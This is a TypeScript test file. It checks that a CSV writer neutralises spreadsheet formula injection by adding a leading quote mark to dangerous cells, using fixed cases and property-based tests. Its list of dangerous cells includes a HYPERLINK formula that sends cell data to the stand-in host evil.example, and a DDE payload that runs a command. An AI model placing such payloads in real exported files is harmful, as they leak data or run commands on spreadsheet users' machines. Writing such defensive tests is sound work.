import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { writeCsv } from '../../src/core/csv/csv-write';

/**
 * The one CSV writer: whatever a customer's cell holds, the downloaded file is inert in a
 * spreadsheet. Checked the way a spreadsheet reads it — parsed back (papaparse), every cell
 * looked at from its first character.
 */

/** What a spreadsheet would run: a cell whose first character starts a formula. */
const STARTS_FORMULA = /^[=+\-@\t\r]/u;

/** The cells of a written CSV, as a reader sees them. */
function readBack(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n', skipEmptyLines: false });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('writeCsv: formulas never survive a download', () => {
  const DANGEROUS: [string, string][] = [
    ['=', '=HYPERLINK("https://evil.example/?d="&B2,"x")'],
    ['+', '+1+cmd|" /C calc"!A0'],
    ['-', '-2+3'],
    ['@', '@SUM(1+1)'],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ];
  const ENDINGS: [string, string][] = [
    ['alone', ''],
    ['then a line feed', '\n'],
    ['then a line feed and text', '\nx'],
    ['then CRLF and text', '\r\nsecond line'],
    ['then a carriage return and text', '\rx'],
  ];
  const CASES = DANGEROUS.flatMap(([start, cell]) =>
    ENDINGS.map(([ending, tail]) => [start, ending, cell + tail] as const),
  );

  it.each(CASES)('a cell starting with %s, %s, is written with a leading quote mark', (_start, _ending, cell) => {
    const text = writeCsv(['note', 'load'], [[cell, 'LD-1']]);
    expect(readBack(text)).toEqual([
      ['note', 'load'],
      [`'${cell}`, 'LD-1'],
    ]);
  });

  it('the header row is neutralised the same way (column names come from the file too)', () => {
    expect(readBack(writeCsv(['=cmd', 'ok'], []))).toEqual([["'=cmd", 'ok']]);
  });

  it.each([
    ['plain text', 'Acme, Inc.'],
    ['a quote inside', 'say "hi"'],
    ['a formula sign later on', 'a=b+c-d@e'],
    ['a leading space before =', ' =1'],
    ['a leading apostrophe', "'=already"],
    ['an empty cell', ''],
  ])('leaves %s as it is', (_case, cell) => {
    expect(readBack(writeCsv(['x'], [[cell]]))).toEqual([['x'], [cell]]);
  });

  it('writes CRLF line ends and quotes only what needs it', () => {
    expect(
      writeCsv(
        ['a', 'b'],
        [
          ['1', 'two, three'],
          ['=x', 'y'],
        ],
      ),
    ).toBe(`a,b\r\n1,"two, three"\r\n"'=x",y`);
  });

  it('law: parsed back, no cell starts a formula, and each is the one written (a quote mark added at most)', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '\t',
        '\r',
        '\n',
        '\r\n',
        '"',
        ',',
        "'",
        ' ',
        'SUM(A1)',
        'é',
        '\u0000',
        '\ufeff',
      ),
      fc.string({ maxLength: 6 }),
    );
    const cell = fc.array(piece, { maxLength: 5 }).map((pieces) => pieces.join(''));
    const table = fc
      .integer({ min: 1, max: 4 })
      .chain((width) =>
        fc.tuple(
          fc.array(cell, { minLength: width, maxLength: width }),
          fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 6 }),
        ),
      );
    fc.assert(
      fc.property(table, ([header, rows]) => {
        // A one-column row of one empty cell is an empty line, which no CSV can tell from none.
        fc.pre(header.length > 1 || [header, ...rows].every((row) => row[0] !== ''));
        const parsed = readBack(writeCsv(header, rows));
        expect(parsed).toHaveLength(rows.length + 1);
        [header, ...rows].forEach((written, r) =>
          written.forEach((original, c) => {
            const read = parsed[r]?.[c] ?? '';
            expect(STARTS_FORMULA.test(read)).toBe(false);
            expect(read === original || read === `'${original}`).toBe(true);
          }),
        );
      }),
      { numRuns: 500 },
    );
  });
});
